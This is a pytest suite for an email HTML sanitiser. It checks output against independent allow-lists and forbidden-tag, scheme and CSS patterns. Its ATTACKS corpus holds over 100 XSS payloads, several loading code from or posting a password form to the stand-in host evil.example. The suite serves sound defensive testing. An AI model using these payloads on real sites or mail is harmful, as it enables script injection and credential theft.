"""The HTML sanitiser against known attack payloads, real mail and pathological input.

Every output is checked by `assert_safe`, which parses it with the standard
library's HTMLParser (not with what produced it) against lists kept here,
apart from the module's own.
"""

import random
import re
import uuid
from html.parser import HTMLParser

import pytest

from messages import sanitize as sanitize_module
from messages.parsing import MessageRejected, parse_message
from messages.sanitize import SanitizedHtml, sanitize_html
from messages.tests.corpus import corpus_files

SAFE_TAGS = {
    *("a", "abbr", "acronym", "address", "article", "aside", "b", "bdi", "bdo", "big", "blockquote", "br"),
    *("caption", "center", "cite", "code", "col", "colgroup", "dd", "del", "details", "dfn", "div", "dl"),
    *("dt", "em", "figcaption", "figure", "font", "footer", "h1", "h2", "h3", "h4", "h5", "h6", "header"),
    *("hr", "i", "img", "ins", "kbd", "li", "main", "mark", "nav", "ol", "p", "pre", "q", "rp", "rt"),
    *("ruby", "s", "samp", "section", "small", "span", "strike", "strong", "sub", "summary", "sup"),
    *("table", "tbody", "td", "tfoot", "th", "thead", "time", "tr", "tt", "u", "ul", "var", "wbr"),
}
SAFE_ATTRIBUTES = {
    *("style", "title", "dir", "lang", "align", "href", "target", "rel", "src", "srcset", "alt", "width"),
    *("height", "border", "hspace", "vspace", "cellpadding", "cellspacing", "bgcolor", "background"),
    *("summary", "valign", "colspan", "rowspan", "nowrap", "scope", "abbr", "span", "color", "face"),
    *("size", "noshade", "start", "type", "reversed", "value", "datetime"),
}
URL_ATTRIBUTES = {"href", "src", "srcset", "background"}
# Tags whose mere appearance in the output, as markup, is a failure.
FORBIDDEN_TAG = re.compile(
    r"<\s*/?\s*(script|style|iframe|frame|frameset|object|embed|applet|meta|base|link|svg|math|form|input"
    r"|button|textarea|select|option|template|noscript|xmp|plaintext|noembed|noframes|title|use|image"
    r"|animate|set|foreignobject|isindex|keygen|marquee|bgsound|xml|import|portal|video|audio|source)\b",
    re.IGNORECASE,
)
FORBIDDEN_SCHEMES = ("javascript:", "vbscript:", "livescript:", "mocha:", "data:", "mhtml:", "file:", "jar:")
SAFE_DATA_IMAGE = re.compile(r"data:image/(png|gif|jpeg|jpg|webp)[;,]")
FORBIDDEN_CSS = ("expression", "behavior", "binding", "javascript", "vbscript", "@import", "\\", "position")
SQUASH = re.compile(r"[\s\x00-\x1f\x7f]+")


class _Parsed(HTMLParser):
    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.tokens: list[tuple] = []  # for comparing markup regardless of attribute order
        self.other: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))
        self.tokens.append(("start", tag, tuple(sorted(attrs))))

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        self.tokens.append(("end", tag))

    def handle_data(self, data):
        self.tokens.append(("text", data))

    def handle_comment(self, data):
        self.other.append(f"comment {data!r}")

    def handle_decl(self, decl):
        self.other.append(f"declaration {decl!r}")

    def handle_pi(self, data):
        self.other.append(f"processing instruction {data!r}")

    def unknown_decl(self, data):
        self.other.append(f"CDATA {data!r}")


def assert_safe(html: str, *, remote_images_allowed: bool = False) -> _Parsed:
    assert isinstance(html, str)
    assert not FORBIDDEN_TAG.search(html), html
    parsed = _Parsed(html)
    assert not parsed.other, parsed.other
    for tag, attributes in parsed.elements:
        assert tag in SAFE_TAGS, (tag, html)
        for name, value in attributes:
            assert not name.startswith("on"), (tag, name)
            assert name in SAFE_ATTRIBUTES, (tag, name)
            squashed = SQUASH.sub("", value or "").lower()
            if tag == "img" and name == "src" and SAFE_DATA_IMAGE.match(squashed):
                continue
            assert not any(scheme in squashed for scheme in FORBIDDEN_SCHEMES), (tag, name, value)
            if name in URL_ATTRIBUTES and not remote_images_allowed and name != "href":
                assert not squashed.startswith(("http:", "https:", "//", "\\")), (tag, name, value)
            if name == "style":
                assert not any(bad in squashed for bad in FORBIDDEN_CSS), value
                if not remote_images_allowed:
                    assert not re.search(r"url\((?!\"/api/)", squashed), value
    return parsed


def assert_stable(result: SanitizedHtml, **options) -> None:
    """A second pass changes nothing but attribute order: the markup we
    checked is the markup a browser will build."""
    assert _Parsed(sanitize_html(result.html, **options).html).tokens == _Parsed(result.html).tokens


class _Depth(HTMLParser):
    VOID = {"br", "hr", "img", "col", "wbr"}

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.depth = self.deepest = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in self.VOID:
            self.depth += 1
            self.deepest = max(self.deepest, self.depth)

    def handle_endtag(self, tag):
        self.depth -= 1


# --- Known attack payloads --------------------------------------------------------------------------

ATTACKS = {
    # <script>, however spelled
    "script": "<script>alert(1)</script>",
    "script-mixed-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "script-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-unclosed": "<p>hi<script>alert(1)",
    "script-broken-open": "<script\n>alert(1)</script\n>",
    "script-attribute-slash": "<script/src=https://evil.example/x.js></script>",
    "script-in-attribute-breakout": '<p title="x"><script>alert(1)</script>">',
    "script-double-escaped": "<script><!--<script></script><img src=x onerror=alert(1)></script>-->",
    "script-in-table": "<table><tr><td><script>alert(1)</script></td></tr></table>",
    # event handlers
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-quoted": '<img src="x" onerror="alert(1)">',
    "body-onload": "<body onload=alert(1)>",
    "div-onmouseover": '<div onmouseover="alert(1)">hover</div>',
    "handler-slash-separator": "<img/src=x/onerror=alert(1)>",
    "handler-newline-separator": "<img src=x\nonerror\n=\nalert(1)>",
    "handler-tab-separator": "<img\tsrc=x\tonerror=alert(1)>",
    "handler-uppercase": "<IMG SRC=x ONERROR=alert(1)>",
    "handler-on-unknown-tag": "<x onclick=alert(1)>click</x>",
    "handler-on-details": "<details open ontoggle=alert(1)>",
    "handler-on-svg-onload": "<svg onload=alert(1)>",
    "handler-backtick": "<img src=`x` onerror=`alert(1)`>",
    # javascript: and friends in links
    "javascript-link": '<a href="javascript:alert(1)">x</a>',
    "javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript-leading-space": '<a href="  javascript:alert(1)">x</a>',
    "javascript-control-char": '<a href="\x01javascript:alert(1)">x</a>',
    "javascript-tab-entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "javascript-newline-entity": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "javascript-decimal-entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>'
    ),
    "javascript-padded-entities": '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
    "javascript-named-colon": '<a href="javascript&colon;alert(1)">x</a>',
    "javascript-raw-tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript-unquoted": "<a href=javascript:alert(1)>x</a>",
    "javascript-in-img-src": '<img src="javascript:alert(1)">',
    "javascript-in-background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "vbscript-link": '<a href="vbscript:msgbox(1)">x</a>',
    "livescript-link": '<a href="livescript:alert(1)">x</a>',
    # data: URLs
    "data-html-link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data-html-base64-link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data-iframe": '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "data-svg-img": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "data-html-img": '<img src="data:text/html,<script>alert(1)</script>">',
    "data-object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "data-embed": '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    # SVG and MathML
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-use-data": '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>',
    "svg-use-xlink": '<svg><use xlink:href="https://evil.example/x.svg#a"/></svg>',
    "svg-animate-href": (
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>"
    ),
    "svg-foreignobject": (
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"
    ),
    "svg-style-breakout": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "svg-unclosed": "<svg><p><style><img src=x onerror=alert(1)>",
    "math-href": '<math><maction actiontype="statusline" href="javascript:alert(1)">x</maction></math>',
    "math-mglyph-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math-mtext-mxss": (
        "<math><mi><mglyph><svg><mtext><textarea><path id=</textarea><img onerror=alert(1) src=1>"
    ),
    # CSS
    "style-import": "<style>@import 'https://evil.example/x.css';</style><p>x</p>",
    "style-block-url": "<style>body{background:url(javascript:alert(1))}</style>",
    "style-block-closing-trick": "<style></style><script>alert(1)</script>",
    "css-expression": '<div style="width: expression(alert(1))">x</div>',
    "css-expression-comment": '<div style="width: expr/**/ession(alert(1))">x</div>',
    "css-expression-escaped": '<div style="width: expr\\65ssion(alert(1))">x</div>',
    "css-behavior": '<div style="behavior: url(https://evil.example/x.htc)">x</div>',
    "css-moz-binding": '<div style="-moz-binding: url(https://evil.example/x.xml#xss)">x</div>',
    "css-url-javascript": '<div style="background-image: url(javascript:alert(1))">x</div>',
    "css-url-vbscript-quoted": "<div style=\"background: url('vbscript:msgbox(1)')\">x</div>",
    "css-url-escaped": '<div style="background: u\\72l(https://evil.example/t.png)">x</div>',
    "css-url-remote": '<div style="background: URL( https://evil.example/t.png )">x</div>',
    "css-image-set": "<div style=\"background-image: image-set('https://evil.example/t.png' 1x)\">x</div>",
    "css-position-overlay": '<div style="position: fixed; top: 0; left: 0; z-index: 9999">phish</div>',
    "css-import-in-attribute": "<div style=\"@import 'https://evil.example/x.css'; color: red\">x</div>",
    "css-entity-encoded": '<div style="background:&#x75;rl(https://evil.example/t.png)">x</div>',
    # Elements that load, navigate or submit
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "meta-refresh-https": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "base-href": '<base href="https://evil.example/"><a href="/login">x</a>',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "link-import": '<link rel="import" href="https://evil.example/x.html">',
    "form-action": (
        '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>'
    ),
    "formaction": '<button formaction="javascript:alert(1)">x</button>',
    "input-image": '<input type="image" src="x" onerror="alert(1)">',
    "textarea-breakout": "<textarea></textarea><script>alert(1)</script>",
    "select-breakout": "<select><option><img src=x onerror=alert(1)></option></select>",
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe-src": '<iframe src="https://evil.example/"></iframe>',
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "object-data": '<object data="https://evil.example/x.swf"></object>',
    "embed-src": '<embed src="https://evil.example/x.swf">',
    "applet": '<applet code="X.class" codebase="https://evil.example/"></applet>',
    "video-poster": '<video poster="javascript:alert(1)"><source src=x onerror=alert(1)></video>',
    "isindex": '<isindex action="javascript:alert(1)" type=image>',
    "portal": '<portal src="https://evil.example/"></portal>',
    # Parser tricks
    "comment-breakout": "<!--<img src=x onerror=alert(1)>-->",
    "comment-abrupt": "<!--><img src=x onerror=alert(1)>-->",
    "comment-bang-close": "<!-- --!><img src=x onerror=alert(1)>",
    "conditional-comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "cdata-outside-foreign": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "cdata-in-svg": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "processing-instruction": "<?xml-stylesheet href='https://evil.example/x.xsl'?><p>x</p>",
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "noscript-style": "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "template-shadowroot": (
        '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>'
    ),
    "xmp-breakout": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "title-breakout": '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "unterminated-attribute": '<p title="<img src=x onerror=alert(1)>',
    "attribute-quote-confusion": "<p title='\"'><img src=x onerror=alert(1)>'>",
    "nul-in-tag-name": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "nul-in-scheme": '<a href="java\x00script:alert(1)">x</a>',
    "fullwidth-brackets": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "image-tag": '<image src="x" onerror="alert(1)">',
    "a-in-a-adoption": "<a href=https://ok.example><a href=javascript:alert(1)>x</a></a>",
    "table-foster-parent": "<table><img src=x onerror=alert(1)><tr><td>x</td></tr></table>",
    "id-clobbering": '<img name="getElementById"><form id="location"><a id="x" name="y" class="btn">x</a>',
    "target-override": '<a href="https://ok.example" target="_top" rel="opener">x</a>',
    "xml-namespace": '<html xmlns:x="urn:x"><x:script>alert(1)</x:script></html>',
    "entity-decoded-markup": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "srcset-javascript": '<img srcset="javascript:alert(1) 1x">',
    "background-remote": '<td background="https://evil.example/t.png">x</td>',
}


@pytest.mark.parametrize("payload", ATTACKS.values(), ids=ATTACKS.keys())
def test_attack_payload_is_neutralised(payload):
    result = sanitize_html(payload)
    assert_safe(result.html)
    assert_stable(result)


@pytest.mark.parametrize("payload", ATTACKS.values(), ids=ATTACKS.keys())
def test_attack_payload_is_neutralised_with_remote_images_allowed(payload):
    assert_safe(sanitize_html(payload, allow_remote_images=True).html, remote_images_allowed=True)


def test_the_corpus_is_as_large_as_promised():
    assert len(ATTACKS) >= 100


@pytest.mark.parametrize(
    "unsafe",
    [
        "<img src=x onerror=alert(1)>",
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        "<svg><script>alert(1)</script></svg>",
        '<div style="width: expression(alert(1))">x</div>',
        '<div style="background: url(https://evil.example/t.png)">x</div>',
        '<img src="https://evil.example/t.png">',
        "<!-- comment -->",
        "<form><p>x</p></form>",
        '<p class="x" id="y">x</p>',
    ],
)
def test_the_checker_rejects_what_it_should(unsafe):
    """`assert_safe` is what makes the payload tests worth anything."""
    with pytest.raises(AssertionError):
        assert_safe(unsafe)


# --- What ordinary mail keeps ---------------------------------------------------------------------

NEWSLETTER = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>News</title>
<style>.x { color: red }</style></head>
<body style="margin:0">
<center>
<table width="600" align="center" cellpadding="10" cellspacing="0" border="0" bgcolor="#ffffff">
<tr><td valign="top" align="left"
 style="font-family: Arial, sans-serif; font-size: 14px; color: #333333; padding: 10px 20px">
<h1 style="margin: 0">Monthly news</h1>
<p>Hello <b>Jürgen</b>, <i>here</i> is <u>what</u> is <strong>new</strong> and <em>good</em>.</p>
<font color="#ff0000" face="Georgia" size="2">Sale!</font>
<ul><li>one<li>two</ul><ol start="3"><li>three</li></ol>
<blockquote type="cite">quoted</blockquote>
<pre><code>code()</code></pre>
<hr width="80%"><br>
<a href="https://example.com/offer?a=1&amp;b=2" title="Offer">See the offer</a>
<img src="cid:logo@example.com" alt="Logo" width="120" height="40">
</td></tr>
</table>
</center>
</body></html>"""


def test_newsletter_keeps_its_formatting():
    cid_urls = {"logo@example.com": "/api/attachments/1/content"}
    result = sanitize_html(NEWSLETTER, cid_urls=cid_urls)
    parsed = assert_safe(result.html)
    tags = {tag for tag, _ in parsed.elements}
    assert {"center", "table", "tr", "td", "h1", "p", "b", "i", "u", "strong", "em", "font"} <= tags
    assert {"ul", "ol", "li", "blockquote", "pre", "code", "hr", "br", "a", "img"} <= tags
    attributes = {(tag, name): value for tag, attrs in parsed.elements for name, value in attrs}
    assert attributes[("table", "width")] == "600"
    assert attributes[("table", "cellpadding")] == "10"
    assert attributes[("table", "bgcolor")] == "#ffffff"
    assert attributes[("td", "valign")] == "top"
    assert "font-size:14px" in attributes[("td", "style")].replace(" ", "")
    assert attributes[("font", "color")] == "#ff0000"
    assert attributes[("font", "face")] == "Georgia"
    assert attributes[("ol", "start")] == "3"
    assert attributes[("a", "href")] == "https://example.com/offer?a=1&b=2"
    assert attributes[("img", "src")] == "/api/attachments/1/content"
    assert attributes[("img", "alt")] == "Logo"
    assert "Hello <b>Jürgen</b>" in result.html
    assert result.html.count("<li>") == 3
    assert "News" not in result.html  # the <title>
    assert "color: red" not in result.html  # the <style> block
    assert result.remote_images_blocked == 0
    # (Without the map: a second pass rightly drops the relative URL it put there.)
    assert_stable(sanitize_html(NEWSLETTER))


def test_links_open_in_a_new_context_without_referrer():
    parsed = assert_safe(
        sanitize_html('<a href="https://example.com/" target="_self" rel="opener">x</a>').html
    )
    ((_, attrs),) = parsed.elements
    assert dict(attrs) == {
        "href": "https://example.com/",
        "target": "_blank",
        "rel": "noopener noreferrer nofollow",
    }


@pytest.mark.parametrize(
    ("href", "kept"),
    [
        ("https://example.com/a?b=c", "https://example.com/a?b=c"),
        ("http://example.com/", "http://example.com/"),
        ("  https://example.com/  ", "https://example.com/"),
        ("mailto:someone@example.com", "mailto:someone@example.com"),
        ("tel:+441234567", "tel:+441234567"),
        ("//example.com/x", "https://example.com/x"),
        ("/relative/path", None),
        ("#anchor", None),
        ("cid:part1@example.com", None),
        ("ftp://example.com/", None),
        ("data:text/html,hi", None),
    ],
)
def test_link_schemes(href, kept):
    parsed = assert_safe(sanitize_html(f'<a href="{href}">x</a>').html)
    assert dict(parsed.elements[0][1]).get("href") == kept


# --- Inline images ---------------------------------------------------------------------------------


def _img_src(result: SanitizedHtml) -> str | None:
    parsed = assert_safe(result.html, remote_images_allowed=True)  # a cid may map to an https URL
    return dict(next(attrs for tag, attrs in parsed.elements if tag == "img")).get("src")


@pytest.mark.parametrize(
    "src",
    ["cid:Logo@Example.COM", "cid:logo@example.com", "CID:logo%40example.com", "cid:<logo@example.com>"],
)
def test_cid_is_rewritten_case_insensitively(src):
    result = sanitize_html(f'<img src="{src}">', cid_urls={"logo@example.com": "/api/attachments/7/content"})
    assert _img_src(result) == "/api/attachments/7/content"


def test_cid_map_keys_may_keep_their_angle_brackets():
    result = sanitize_html('<img src="cid:a@b">', cid_urls={"<A@B>": "https://api.example.com/att/1"})
    assert _img_src(result) == "https://api.example.com/att/1"


def test_unknown_cid_loses_its_src_and_is_not_counted():
    result = sanitize_html('<img src="cid:missing@x" alt="gone">', cid_urls={"other@x": "/api/a/1"})
    assert _img_src(result) is None
    assert result.remote_images_blocked == 0
    assert 'alt="gone"' in result.html


def test_cid_map_value_that_is_not_a_plain_url_is_ignored():
    result = sanitize_html('<img src="cid:a@b">', cid_urls={"a@b": "javascript:alert(1)"})
    assert _img_src(result) is None


def test_cid_in_css_and_background_attribute():
    html = '<table background="cid:bg@x"><tr><td style="background-image: url(cid:bg@x)">x</td></tr></table>'
    result = sanitize_html(html, cid_urls={"bg@x": "/api/attachments/9/content"})
    assert_safe(result.html)
    assert 'background="/api/attachments/9/content"' in result.html
    assert "url(&quot;/api/attachments/9/content&quot;)" in result.html


@pytest.mark.parametrize(
    ("src", "kept"),
    [
        ("data:image/png;base64,iVBORw0KGgo=", True),
        ("data:image/gif;base64,R0lGODlhAQABAAAAACw=", True),
        ("data:image/jpeg;base64,/9j/4AAQ", True),
        ("data:image/webp;base64,UklGRg==", True),
        ("DATA:IMAGE/PNG;BASE64,iVBORw0KGgo=", True),
        ("data:image/svg+xml;base64,PHN2Zz4=", False),
        ("data:image/svg+xml,<svg onload=alert(1)>", False),
        ("data:text/html;base64,PHNjcmlwdD4=", False),
        ("data:image/png", False),
    ],
)
def test_data_urls_in_img(src, kept):
    assert (_img_src(sanitize_html(f'<img src="{src}">')) == src) is kept


def test_data_image_is_not_kept_outside_img_src():
    png = "data:image/png;base64,iVBORw0KGgo="
    html = f'<a href="{png}">x</a><td background="{png}">y</td><p style="background: url({png})">z</p>'
    result = sanitize_html(html)
    assert_safe(result.html)
    assert "data:" not in result.html
    assert result.remote_images_blocked == 0


# --- Remote images -----------------------------------------------------------------------------------

REMOTE = """
<img src="https://t.example/1.png" alt="a">
<img src="http://t.example/2.png">
<img src="//t.example/3.png">
<img srcset="https://t.example/4.png 1x, https://t.example/4@2x.png 2x">
<table background="https://t.example/5.png"><tr><td>x</td></tr></table>
<div style="background: #fff url(https://t.example/6.png) no-repeat; color: red">y</div>
<div style="background-image: URL( 'https://t.example/7.png' )">z</div>
<ul style='list-style: square url("//t.example/8.png")'><li>w</li></ul>
"""


def test_remote_images_are_blocked_and_counted():
    result = sanitize_html(REMOTE)
    assert_safe(result.html)
    assert "t.example" not in result.html
    assert result.remote_images_blocked == 8
    assert 'alt="a"' in result.html
    # The rest of a declaration survives its image.
    assert "background:#fffnoneno-repeat" in result.html.replace(" ", "")
    assert "color:red" in result.html.replace(" ", "")


def test_remote_images_are_shown_when_allowed():
    result = sanitize_html(REMOTE, allow_remote_images=True)
    assert_safe(result.html, remote_images_allowed=True)
    assert result.remote_images_blocked == 0
    for n in ("1", "2", "3", "4", "4@2x", "5", "6", "7", "8"):
        assert f"t.example/{n}.png" in result.html, n
    assert 'src="https://t.example/3.png"' in result.html  # protocol-relative made explicit


def test_the_count_is_what_allowing_would_show():
    html = (
        '<img src="https://t.example/a.png">'
        '<p style="background: url(https://t.example/b.png) expression(1)">x</p>'
    )
    assert sanitize_html(html).remote_images_blocked == 1
    assert "b.png" not in sanitize_html(html, allow_remote_images=True).html


def test_remote_images_in_dropped_elements_are_not_counted():
    result = sanitize_html(
        '<svg><image href="https://t.example/x.png"/></svg><style>p{background:url(https://t.example/y.png)}</style>'
    )
    assert result.remote_images_blocked == 0


# --- Inline styles ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("style", "expected"),
    [
        ("color: red; font-size: 14px", "color:red;font-size:14px"),
        ("COLOR: Red", "color:Red"),
        ("color: red; position: absolute; z-index: 10", "color:red"),
        (
            "padding: 0 10px; margin-top: 5px; border: 1px solid #ccc",
            "padding:0 10px;margin-top:5px;border:1px solid #ccc",
        ),
        ("color: rgb(1, 2, 3)", "color:rgb(1, 2, 3)"),
        ("width: calc(100% - 20px)", "width:calc(100% - 20px)"),
        ("color: red /* comment */; font-weight: bold", "color:red;font-weight:bold"),
        ("color: red; width: expression(alert(1))", "color:red"),
        ("color: var(--x)", None),
        ("color: red; behavior: url(x.htc)", "color:red"),
        ("color: \\72 ed", None),
        ('font-family: "a;b"; color: blue', "color:blue"),
        ("color: red; }</style><script>alert(1)</script>", "color:red"),
    ],
)
def test_style_declarations(style, expected):
    parsed = assert_safe(sanitize_html(f'<span style="{style.replace(chr(34), "&quot;")}">x</span>').html)
    kept = dict(parsed.elements[0][1]).get("style")
    assert (kept.replace(" ", "") if kept else None) == (expected.replace(" ", "") if expected else None)


def test_style_blocks_are_dropped_with_their_content():
    result = sanitize_html("<style>p { color: red } @import url(https://x);</style><p>text</p>")
    assert result.html == "<p>text</p>"


# --- Robustness ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        "",
        "plain text & more",
        "\x00",
        "<b>\x00bold\x00</b>",
        "\ud800<p>lone surrogate\udfff</p>",
        "<p>emoji \U0001f600 and RTL \u202e</p>",
        "<",
        "<<<<>>>>",
        "</",
        "<a",
        '<a href="',
        "<!--",
        "<![CDATA[",
        "<div><span><table><tr><td><p>unclosed",
        "</div></span></table></p>" * 10,
        "<table><td><table><td><table><td>x",
        "\r\n\r\n<p>\r</p>",
        "<p>" + "&amp;" * 1000 + "</p>",
        "&#0; &#xD800; &#x110000; &#99999999999;",
        "<p " + "a=1 " * 5000 + ">many attributes</p>",
    ],
)
def test_awkward_input_returns_a_safe_string(html):
    result = sanitize_html(html)
    assert isinstance(result.html, str)
    result.html.encode("utf-8")
    assert "\x00" not in result.html
    assert_safe(result.html)


def test_random_bytes_return_a_safe_string():
    rng = random.Random(1234)
    alphabet = "<>/=\"' \t\n&#;:!-abcdefghijklmnopqrstuvwxyzSCRIPTsvgonerrorjavascript\x00\x01()"
    for _ in range(300):
        html = "".join(rng.choice(alphabet) for _ in range(rng.randrange(200)))
        assert_safe(sanitize_html(html).html)


def test_a_failure_returns_an_empty_fragment(monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("boom")

    monkeypatch.setattr(sanitize_module.nh3, "clean", broken)
    assert sanitize_html("<p>x</p>") == SanitizedHtml(html="", remote_images_blocked=0)
    # A writer (compose) asks for the error instead: the user's HTML is not dropped silently.
    with pytest.raises(RuntimeError, match="boom"):
        sanitize_html("<p>x</p>", raise_errors=True)


@pytest.mark.parametrize(
    ("name", "html"),
    [
        ("2 MB of nested div", "<div>" * 400_000 + "end"),
        ("nested lists", "<ul><li>" * 125_000 + "end"),
        (
            "font with many attributes",
            "".join(f'<font {"a=1 " * 30}color="#{i:06x}">' for i in range(6_000)) + "end",
        ),
        ("misnested formatting around blocks", "<b><div></b>" * 80_000 + "end"),
        ("unclosed svg broken out of", "<svg><p>" * 100_000 + "end"),
    ],
)
def test_pathological_nesting_returns(name, html):
    """html5ever alone is quadratic on these (seconds at 40,000 nested divs);
    no timing is asserted (that is bench/'s business), only that it returns."""
    result = sanitize_html(html)
    assert result.html.endswith("end") or "end<" in result.html
    assert _Depth(result.html).deepest <= sanitize_module.MAX_DEPTH


def test_deep_but_sane_nesting_is_kept():
    html = "<blockquote>" * 50 + "quoted" + "</blockquote>" * 50
    assert sanitize_html(html).html == html


# --- Real mail -------------------------------------------------------------------------------------


def test_every_html_body_in_the_corpus_sanitises_safely():
    seen = 0
    for path in corpus_files():
        try:
            parsed = parse_message(path.read_bytes())
        except MessageRejected:
            continue
        if parsed.html_body:
            seen += 1
            result = sanitize_html(parsed.html_body)
            assert_safe(result.html)
            assert_stable(result)
    assert seen > 50


# --- What the message detail serves: cut, cached, URLs put in per request ---------------------


def _cached_keys() -> list[bytes]:
    from django.core.cache import caches

    return caches[sanitize_module.CACHE_ALIAS]._cache.get_client().keys("*mail:html:*")


def test_twelve_inline_images_each_get_their_own_url_from_the_cache(settings):
    """Placeholders were "<prefix>0" ... "<prefix>11" put back with
    str.replace in order: "<prefix>1" also rewrote "<prefix>10" and
    "<prefix>11" (the URL of image 1, then "0" or "1")."""
    settings.MAIL_HTML_CACHE_MIN_CHARS = 0
    cid_urls = {
        f"img{i}@x": f"https://mail.example/api/attachments/{i}/download?token=t{i}&x=1" for i in range(12)
    }
    html = "".join(f'<p>{i}</p><img src="cid:img{i}@x">' for i in range(12))
    expected = sanitize_html(html, cid_urls=cid_urls).html
    assert expected.count("/download?token=") == 12

    message_id = uuid.uuid4()
    first, _ = sanitize_module.sanitize_html_for_reading(html, message_id=message_id, cid_urls=cid_urls)
    again, _ = sanitize_module.sanitize_html_for_reading(html, message_id=message_id, cid_urls=cid_urls)

    assert len(_cached_keys()) == 1
    assert first.html == again.html == expected


def test_only_a_large_body_is_cached_compressed_and_for_an_hour(settings):
    """Every detail cached up to 500,000 characters for a day in the Redis
    that holds the broker (noeviction): now only bodies that cost to
    sanitise, compressed, for MAIL_HTML_CACHE_SECONDS."""
    from django.core.cache import caches

    assert settings.MAIL_HTML_CACHE_MIN_CHARS == 50_000
    assert settings.MAIL_HTML_CACHE_SECONDS == 3600
    paragraph = "<p>" + "word " * 40 + "</p>\n"
    small = paragraph * (49_000 // len(paragraph))
    large = paragraph * (60_000 // len(paragraph))

    small_result, _ = sanitize_module.sanitize_html_for_reading(small, message_id=uuid.uuid4(), cid_urls={})
    assert small_result.html == sanitize_html(small).html
    assert _cached_keys() == []

    large_result, _ = sanitize_module.sanitize_html_for_reading(large, message_id=uuid.uuid4(), cid_urls={})
    assert large_result.html == sanitize_html(large).html
    [key] = _cached_keys()
    client = caches[sanitize_module.CACHE_ALIAS]._cache.get_client()
    assert 3590 <= client.ttl(key) <= 3600
    assert client.strlen(key) < len(large_result.html) // 10  # zlib (this text repeats itself)


def test_a_key_rotation_does_not_serve_fragments_with_the_old_placeholders(settings):
    """The placeholder prefix derives from SECRET_KEY and was not in the key:
    after a rotation, cached fragments kept the old placeholders, which were
    no longer replaced, and inline images broke for the cache's life."""
    settings.MAIL_HTML_CACHE_MIN_CHARS = 0
    cid_urls = {"logo@x": "https://mail.example/api/attachments/1/download?token=t"}
    html = '<img src="cid:logo@x">'
    message_id = uuid.uuid4()
    before, _ = sanitize_module.sanitize_html_for_reading(html, message_id=message_id, cid_urls=cid_urls)
    settings.SECRET_KEY = settings.SECRET_KEY + "-rotated"

    after, _ = sanitize_module.sanitize_html_for_reading(html, message_id=message_id, cid_urls=cid_urls)

    expected = '<img src="https://mail.example/api/attachments/1/download?token=t">'
    assert before.html == after.html == expected


def test_a_failed_sanitising_is_not_cached(settings, monkeypatch):
    """A failure is served as an empty fragment; it was cached too, so the
    message stayed blank for a day after a passing fault."""
    settings.MAIL_HTML_CACHE_MIN_CHARS = 0
    message_id = uuid.uuid4()

    def broken(*args, **kwargs):
        raise RuntimeError("boom")

    with monkeypatch.context() as patch:
        patch.setattr(sanitize_module.nh3, "clean", broken)
        failed, _ = sanitize_module.sanitize_html_for_reading("<p>x</p>", message_id=message_id, cid_urls={})
    assert failed == SanitizedHtml(html="", remote_images_blocked=0)
    assert _cached_keys() == []

    served, _ = sanitize_module.sanitize_html_for_reading("<p>x</p>", message_id=message_id, cid_urls={})
    assert served == SanitizedHtml(html="<p>x</p>", remote_images_blocked=0)
